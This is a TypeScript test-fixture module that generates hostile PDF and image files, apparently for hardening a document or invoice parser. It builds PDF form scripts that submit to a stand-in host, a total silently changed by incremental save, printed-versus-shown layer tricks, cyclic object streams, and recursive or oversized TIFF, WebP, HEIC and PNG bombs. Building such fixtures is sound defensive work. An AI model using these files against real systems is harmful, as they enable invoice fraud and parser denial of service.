import { deflateSync } from 'node:zlib';
import { CATALOGUE, emptyPage, FONT, ONE_PAGE, pdfOf, streamOf } from './pdf-files.ts';
import { actingPdf, drawnPdf } from './pdf-shapes.ts';
import { chunk, le16, le32, png, riff, u32 } from './picture-shapes.ts';

const shownTotal = (total: string): string =>
  `BT /F1 10 Tf 50 700 Td (Invoice 4712 Date 2026-03-10) Tj 0 -20 Td (Total ${total} EUR) Tj ET`;

/** A form whose fields run scripts when they are computed, and beside it one in XFA that fetches and submits. */
export const scriptedFormPdf = (): Buffer => {
  const script =
    '<< /S /JavaScript /JS (this.submitForm\\("http://192.0.2.1/"\\); this.getField\\("total"\\).value = 1) >>';
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("http://192.0.2.1/")</script></event></subform></template><connectionSet xmlns="http://www.xfa.org/schema/xfa-connection-set/2.8/"><wsdlConnection name="a" dataDescription="a"><wsdlAddress>http://192.0.2.1/a.wsdl</wsdlAddress></wsdlConnection></connectionSet></xdp:xdp>`;
  return actingPdf('/AcroForm << /Fields [4 0 R] /CO [4 0 R] /NeedAppearances true /XFA 5 0 R >>', [
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (total) /V (119.00) /Rect [50 600 200 620] /P 3 0 R /AA << /C ${script} /F ${script} /K ${script} >> >>`,
    streamOf(Buffer.from(xfa)),
  ]);
};

/** A page under so many links that lead away. */
export const linkedPdf = (links: number): Buffer => {
  const link = '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://192.0.2.1/) >> >>';
  return pdfOf([
    CATALOGUE,
    ONE_PAGE,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [${`${link} `.repeat(links)}] >>`,
  ]);
};

/** Objects in packed streams that extend each other in a ring, found by a packed table. */
export const packedRingPdf = (): Buffer => {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n', 'latin1')];
  const offsets: number[] = [];
  const add = (number: number, body: Buffer): void => {
    offsets[number] = Buffer.concat(parts).length;
    parts.push(Buffer.from(`${number} 0 obj\n`), body, Buffer.from('\nendobj\n'));
  };
  const packed = (number: number, inside: string, other: number): Buffer => {
    const head = `${number} 0 `;
    const entries = `/Type /ObjStm /N 1 /First ${head.length} /Extends ${other} 0 R /Filter /FlateDecode`;
    return streamOf(deflateSync(Buffer.from(head + inside)), entries);
  };
  add(4, packed(1, '<< /Type /Catalog /Pages 2 0 R >>', 5));
  add(5, packed(2, '<< /Type /Pages /Count 1 /Kids [2 0 R 1 0 R] >>', 4));
  const table = Buffer.concat(parts).length;
  const row = (kind: number, place: number, at: number): Buffer =>
    Buffer.concat([Buffer.from([kind]), u32(place), Buffer.from([at])]);
  const rows = Buffer.concat([
    row(0, 0, 255),
    row(2, 4, 0),
    row(2, 5, 0),
    row(2, 4, 7),
    row(1, offsets[4] ?? 0, 0),
    row(2, 5, 0),
    row(1, table, 0),
  ]);
  add(6, streamOf(rows, '/Type /XRef /W [1 4 1] /Size 7 /Root 1 0 R'));
  return Buffer.concat([...parts, Buffer.from(`startxref\n${table}\n%%EOF\n`)]);
};

/** Saved again with another total: whoever reads the first page only, or the last, reads another bill. */
export const changedTotalPdf = (first: string, second: string): Buffer => {
  const whole = drawnPdf(shownTotal(first), '/Font << /F1 5 0 R >>', [FONT]);
  const before = Number(/startxref\n(\d+)/.exec(whole.toString('latin1'))?.[1]);
  const head = Buffer.from('4 0 obj\n');
  const object = Buffer.concat([head, streamOf(Buffer.from(shownTotal(second))), Buffer.from('\nendobj\n')]);
  const table = whole.length + object.length;
  const end = `xref\n4 1\n${String(whole.length).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${before} >>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.concat([whole, object, Buffer.from(end)]);
};

/** Two totals in two layers over each other: one is printed, the other shown. */
export const layeredPdf = (printed: string, shown: string): Buffer => {
  const layer = (name: string, total: string): string => `/OC /${name} BDC ${shownTotal(total)} EMC`;
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [6 0 R 7 0 R] /D << /ON [6 0 R] /OFF [7 0 R] >> >> >>',
    ONE_PAGE,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> /Properties << /A 6 0 R /B 7 0 R >> >> /Contents 4 0 R >>',
    streamOf(Buffer.from(`${layer('A', shown)} ${layer('B', printed)}`)),
    FONT,
    '<< /Type /OCG /Name (shown) >>',
    '<< /Type /OCG /Name (printed) /Usage << /Print << /PrintState /ON >> >> >>',
  ]);
};

/** A page of one's own before which a bill of XML stands in a comment. */
export const commentedPdf = (bill: string): Buffer => {
  const whole = pdfOf([CATALOGUE, ONE_PAGE, emptyPage('0 0 595 842')]);
  return Buffer.concat([whole, Buffer.from(`\n${bill.replaceAll('\n', ' ')}\n%%EOF\n`)]);
};

/** A TIFF whose one folder is its own next and its own child. */
export const selfTiff = (): Buffer => {
  const rows = [
    [256, 4, 1, 100],
    [257, 4, 1, 100],
    [258, 3, 1, 8],
    [259, 3, 1, 1],
    [262, 3, 1, 1],
    [273, 4, 1, 8],
    [278, 4, 1, 100],
    [279, 4, 1, 10_000],
    [330, 4, 1, 10_008],
    [34_665, 4, 1, 10_008],
  ];
  const folder = rows.flatMap(([tag = 0, type = 0, count = 0, value = 0]) => [
    le16(tag),
    le16(type),
    le32(count),
    le32(value),
  ]);
  const head = [Buffer.from('II*\0', 'latin1'), le32(10_008), Buffer.alloc(10_000, 255)];
  return Buffer.concat([...head, le16(rows.length), ...folder, le32(10_008)]);
};

/** A WebP that says it is sixteen million a side and holds one small picture. */
export const hugeWebp = (still: Buffer): Buffer => {
  const most = Buffer.from([255, 255, 255]);
  const canvas = riff('VP8X', Buffer.concat([Buffer.from([0, 0, 0, 0]), most, most]));
  return riff('RIFF', Buffer.concat([Buffer.from('WEBP'), canvas, still.subarray(12)]));
};

/** Boxes of a HEIC that hold themselves, end before they begin, or reach past all there is. */
export const boxedHeic = (): Buffer => {
  const box = (type: string, content: Buffer, size = content.length + 8): Buffer =>
    Buffer.concat([u32(size), Buffer.from(type, 'latin1'), content]);
  const places = Buffer.concat([Buffer.from([0, 0, 0, 0, 0x44, 0x40]), u32(0xffff_ffff), Buffer.alloc(40, 255)]);
  const inner = Buffer.concat([box('pitm', u32(1)), box('iloc', places), box('iprp', Buffer.alloc(8), 3)]);
  let meta: Buffer = inner;
  for (let at = 0; at < 2_000; at += 1) meta = box('meta', Buffer.concat([u32(0), meta]));
  const head = box('ftyp', Buffer.from('heic\0\0\0\0mif1heic', 'latin1'));
  return Buffer.concat([head, box('meta', Buffer.concat([u32(0), meta])), box('mdat', Buffer.alloc(64, 7), 0)]);
};

/** A PNG that says it moves two thousand million times, and whose later frames lie outside of it. */
export const movingPng = (frames: number): Buffer => {
  const control = (at: number): Buffer =>
    chunk(
      'fcTL',
      Buffer.concat([u32(at), u32(0xffff), u32(0xffff), u32(0xffff), u32(0xffff), u32(0), Buffer.alloc(2)]),
    );
  const moving = Array.from({ length: frames }, (_, at) => [
    control(at * 2),
    chunk('fdAT', Buffer.concat([u32(at * 2 + 1), deflateSync(Buffer.alloc(400))])),
  ]);
  return png(320, 200, { more: [chunk('acTL', Buffer.concat([u32(0x7fff_ffff), u32(0)])), ...moving.flat()] });
};
